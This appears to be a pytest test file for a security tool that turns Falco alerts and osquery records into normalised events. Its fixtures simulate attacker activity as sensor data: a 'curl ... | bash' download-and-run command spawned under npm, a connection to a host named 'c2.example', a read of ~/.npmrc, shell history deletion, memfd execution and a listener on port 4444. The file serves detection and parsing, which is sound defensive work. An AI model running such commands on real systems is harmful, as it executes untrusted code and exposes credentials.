"""Records of other sensors become the same events: by their documented forms, and whatever the bytes."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.model.event import Event
from pratique.readers.sensors import falco, osquery
from pratique.readers.sensors.lines import MOST_LINE, Read, nanoseconds

SHELL: dict[str, Any] = {
    "hostname": "ci-7",
    "output": "07:21:01.871149301: Notice a shell",
    "output_fields": {
        "container.id": "7b2fe2ae802f",
        "evt.time.iso8601": 1791357661871149301,
        "evt.type": "execve",
        "evt.res": "SUCCESS",
        "proc.cmdline": "sh -c curl -s http://203.0.113.7/x | bash",
        "proc.exepath": "/usr/bin/dash",
        "proc.cwd": "/srv/shop/",
        "proc.name": "sh",
        "proc.pid": 812,
        "proc.ppid": 800,
        "proc.sid": 700,
        "proc.pname": "node",
        "proc.pexepath": "/usr/bin/node",
        "proc.aname[2]": "npm",
        "proc.aname[3]": None,
        "user.name": "root",
        "user.uid": 0,
    },
    "priority": "Notice",
    "rule": "Terminal shell in container",
    "source": "syscall",
    "tags": ["shell"],
    "time": "2026-10-07T07:21:01.871149301Z",
}
"""An alert in the form that Falco's documentation shows."""
MOMENT = 1791357661871149301


def _falco(**fields: Any) -> Event:
    given = {**SHELL["output_fields"], **fields}
    events, refusal = falco.read(json.dumps({**SHELL, "output_fields": given}).encode(), "log", 1)
    assert refusal is None
    assert len(events) == 1
    return events[0]


def _osquery(columns: dict[str, Any], **more: Any) -> Event:
    record = {"name": "pack_x", "action": "added", "unixTime": "1791357661", "columns": columns, **more}
    events, refusal = osquery.read(json.dumps(record).encode(), "log", 1)
    assert refusal is None
    assert len(events) == 1
    return events[0]


def test_an_execution_that_falco_tells() -> None:
    event = _falco()
    assert (event.kind, event.source, event.outcome, event.time_ns) == ("process.start", "falco", "done", MOMENT)
    assert event.path == "/usr/bin/dash"
    process = event.process
    assert process is not None
    assert (process.pid, process.parent, process.session, process.user) == (812, 800, 700, 0)
    assert process.executable == "/usr/bin/dash"
    assert process.arguments[:3] == ("sh", "-c", "curl")
    assert process.folder == "/srv/shop"
    assert [(one.pid, one.executable, one.name) for one in process.ancestors] == [
        (800, "/usr/bin/node", "node"),
        (0, "", "npm"),
    ]
    assert event.detail["sensor_rule"] == "Terminal shell in container"
    assert event.detail["container"] == "7b2fe2ae802f"
    assert event.detail["user"] == "root"


@pytest.mark.parametrize(
    ("fields", "kind", "wanted"),
    [
        ({"evt.type": "connect", "fd.rip": "203.0.113.7", "fd.rport": 8000, "fd.typechar": "4"}, "network.connect",
         {"address": "203.0.113.7", "port": 8000, "protocol": "inet", "path": ""}),
        ({"evt.type": "connect", "fd.sip": "2001:db8::1", "fd.sport": "443", "fd.sip.name": "c2.example",
          "evt.res": "EINPROGRESS"}, "network.connect",
         {"address": "2001:db8::1", "port": 443, "host": "c2.example", "outcome": "unknown"}),
        ({"evt.type": "openat", "fd.name": "/home/ann/.npmrc", "evt.res": "SUCCESS"}, "file.read",
         {"path": "/home/ann/.npmrc", "outcome": "done"}),
        ({"evt.type": "openat", "fd.name": "/home/ann/.bashrc", "evt.arg.flags": "O_WRONLY|O_APPEND"}, "file.write",
         {"path": "/home/ann/.bashrc"}),
        ({"evt.type": "open", "fs.path.name": "/x", "evt.is_open_write": True}, "file.write", {"path": "/x"}),
        ({"evt.type": "unlink", "fd.name": "<NA>", "evt.arg.path": "/home/ann/.zsh_history"}, "file.delete",
         {"path": "/home/ann/.zsh_history"}),
        ({"evt.type": "renameat2", "fs.path.source": "/a", "fs.path.target": "/b"}, "file.rename",
         {"path": "/a", "target": "/b"}),
        ({"evt.type": "execve", "evt.res": "ENOENT"}, "process.start", {"outcome": "failed", "error": "ENOENT"}),
        ({"evt.type": "execve", "proc.is_exe_from_memfd": True}, "process.start", {"path": "/memfd:sh (deleted)"}),
    ],
)  # fmt: skip
def test_calls_that_falco_tells(fields: dict[str, Any], kind: str, wanted: dict[str, Any]) -> None:
    event = _falco(**fields)
    assert event.kind == kind
    assert {name: getattr(event, name) for name in wanted} == wanted


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        ({"output_fields": {"proc.cmdline": "x"}}, "add %evt.type"),
        ({"source": "k8s_audit"}, "k8s_audit"),
        ({"output_fields": None}, "no alert of Falco"),
        ({"output_fields": {**SHELL["output_fields"], "evt.type": "ptrace"}}, "ptrace"),
        ({"output_fields": {"evt.type": "execve"}, "time": "yesterday"}, "no time"),
    ],
)
def test_what_falco_does_not_tell_is_a_refusal_that_says_so(change: dict[str, Any], reason: str) -> None:
    events, refusal = falco.read(json.dumps({**SHELL, **change}).encode(), "log", 7)
    assert events == ()
    assert refusal is not None
    assert reason in refusal.reason
    assert refusal.reason.startswith("line 7 ")


def test_an_execution_that_osquery_tells_by_audit() -> None:
    event = _osquery(
        {"pid": "812", "parent": "800", "path": "/usr/bin/dash", "cmdline": "sh -c id", "cwd": '"/srv"', "uid": "0",
         "euid": "0", "time": "1791357660", "syscall": "execve", "auid": "4294967295"}
    )  # fmt: skip
    assert (event.kind, event.source, event.outcome) == ("process.start", "osquery", "done")
    assert event.time_ns == 1791357660 * 10**9
    assert event.process is not None
    assert event.process.arguments == ("sh", "-c", "id")
    assert (event.process.folder, event.process.user, event.process.parent) == ("/srv", 0, 800)


def test_an_execution_that_osquery_tells_by_bpf_has_exact_arguments() -> None:
    columns = {
        "tid": "9", "pid": 9, "parent": 8, "uid": "1000", "exit_code": "0", "probe_error": "0", "syscall": "execve",
        "path": "/usr/bin/sh", "cwd": "/", "cmdline": "sh -c curl x", "json_cmdline": '["sh","-c","curl x"]',
        "ntime": "1", "time": "1791357660", "cid": "1",
    }  # fmt: skip
    event = _osquery(columns)
    assert event.process is not None
    assert event.process.arguments == ("sh", "-c", "curl x")
    failed = _osquery({**columns, "exit_code": "-13"})
    assert (failed.outcome, failed.error) == ("failed", "EACCES")
    unread = _osquery({**columns, "json_cmdline": "", "cmdline": "", "probe_error": "1"})
    assert unread.detail["unread"] == "arguments"


def test_other_tables_of_osquery() -> None:
    socket = {"action": "connect", "pid": "9", "path": "/usr/bin/node", "fd": "3", "family": "2", "status": "succeeded",
              "local_address": "", "remote_address": "203.0.113.7", "local_port": "0", "remote_port": "8000",
              "time": "1791357660"}  # fmt: skip
    event = _osquery(socket)
    assert (event.kind, event.address, event.port, event.protocol, event.outcome) == (
        "network.connect", "203.0.113.7", 8000, "inet", "done",
    )  # fmt: skip
    assert event.process is not None
    assert event.process.executable == "/usr/bin/node"
    bound = _osquery({**socket, "action": "bind", "local_address": "0.0.0.0", "local_port": "4444"})
    assert (bound.kind, bound.port) == ("network.listen", 4444)
    changed = _osquery(
        {"operation": "rename", "pid": "9", "ppid": "8", "time": "1", "executable": "/usr/bin/node", "cwd": "/",
         "path": "/a", "dest_path": "/b", "uid": "0", "euid": "0", "partial": "false"}
    )  # fmt: skip
    assert (changed.kind, changed.path, changed.target) == ("file.rename", "/a", "/b")
    file = _osquery(
        {"target_path": "/home/ann/.bashrc", "category": "homes", "action": "UPDATED", "time": "1", "sha256": "ab" * 32}
    )
    assert (file.kind, file.path, file.sha256_after) == ("file.write", "/home/ann/.bashrc", "ab" * 32)
    assert file.process is None


def test_the_three_formats_of_osquery_and_what_is_gone() -> None:
    row = {"pid": "1", "parent": "0", "path": "/bin/x", "cmdline": "x", "time": "5"}
    base = {"name": "q", "unixTime": 5}
    batch = {**base, "diffResults": {"added": [row, row], "removed": [row]}}
    snapshot = {**base, "action": "snapshot", "snapshot": [row]}
    removed = {**base, "action": "removed", "columns": row}
    empty = {**base, "diffResults": {"added": "", "removed": [row]}}
    found = [osquery.read(json.dumps(one).encode(), "log", 1) for one in (batch, snapshot, removed, empty)]
    assert [len(events) for events, _ in found] == [2, 1, 0, 0]
    assert [refusal for _, refusal in found] == [None] * 4
    mixed = {**base, "snapshot": [row, {"name": "x", "pid": "1"}]}
    events, refusal = osquery.read(json.dumps(mixed).encode(), "log", 3)
    assert len(events) == 1
    assert refusal is not None
    assert "no table of events" in refusal.reason


@pytest.mark.parametrize("read", [falco.read, osquery.read])
@pytest.mark.parametrize("line", [b"", b"{", b"[]", b"3", b"null", b"\xff", b'{"a":' * 5000, b'"' + b"x" * MOST_LINE])
def test_what_is_no_record_is_one_refusal(read: Read, line: bytes) -> None:
    events, refusal = read(line, "log", 1)
    assert events == ()
    assert refusal is not None
    assert refusal.relevant


def test_secrets_in_command_lines_are_replaced() -> None:
    secret = "s3cr3t-of-nobody"
    event = _falco(**{"proc.cmdline": f"curl -H Authorization:Bearer {secret} --token={secret} https://a:{secret}@b/"})
    other = _osquery({"pid": "1", "path": "/x", "cmdline": f"x --password {secret}", "time": "5"})
    assert secret not in str(other)
    assert secret not in str(event)


def test_times_with_any_number_of_digits() -> None:
    assert nanoseconds("2026-10-07T07:21:01.871149301Z") == MOMENT
    assert nanoseconds("2026-10-07T09:21:01.871149301+02:00") == MOMENT
    assert nanoseconds("2026-10-07T07:21:01Z") == MOMENT // 10**9 * 10**9
    assert nanoseconds("2026-10-07T07:21:01.5Z") == MOMENT // 10**9 * 10**9 + 500_000_000
    assert nanoseconds("07:21:01") is None
    assert nanoseconds("") is None


VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=40),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=12), inner, max_size=3),
    max_leaves=8,
)
FALCO_FIELDS = st.sampled_from(
    [*SHELL["output_fields"], *falco.PATHS, *falco.SOURCES, *falco.TARGETS, *falco.ADDRESSES, *falco.PORTS, "evt.time"]
)
COLUMNS = st.sampled_from(
    ["pid", "parent", "path", "cmdline", "json_cmdline", "remote_address", "remote_port", "local_address", "action",
     "local_port", "operation", "executable", "target_path", "time", "uid", "exit_code", "status", "family", "syscall"]
)  # fmt: skip


@given(st.binary(max_size=300))
def test_any_bytes_give_events_or_a_refusal(line: bytes) -> None:
    for read in (falco.read, osquery.read):
        events, refusal = read(line, "log", 1)
        assert events or refusal is not None or b'"' in line


@given(st.dictionaries(FALCO_FIELDS, VALUES | st.sampled_from(sorted(falco.KINDS)), max_size=8), VALUES, VALUES)
def test_any_alert_of_falco_is_read(fields: dict[str, Any], time: Any, source: Any) -> None:
    fields = {"evt.type": "execve", **fields}
    for record in (
        {**SHELL, "output_fields": fields},
        {**SHELL, "output_fields": fields, "time": time, "source": source},
    ):
        events, refusal = falco.read(json.dumps(record).encode(), "log", 1)
        assert (len(events) == 1) is (refusal is None)


@given(st.dictionaries(COLUMNS, VALUES, max_size=12), VALUES, st.sampled_from(["columns", "snapshot", "diffResults"]))
def test_any_record_of_osquery_is_read(columns: dict[str, Any], time: Any, form: str) -> None:
    rows: Any = {"columns": columns, "snapshot": [columns], "diffResults": {"added": [columns]}}[form]
    record = {"name": "q", "unixTime": time, form: rows}
    events, refusal = osquery.read(json.dumps(record).encode(), "log", 1)
    assert len(events) <= 1
    for event in events:
        assert event.time_ns > 0
        assert refusal is None
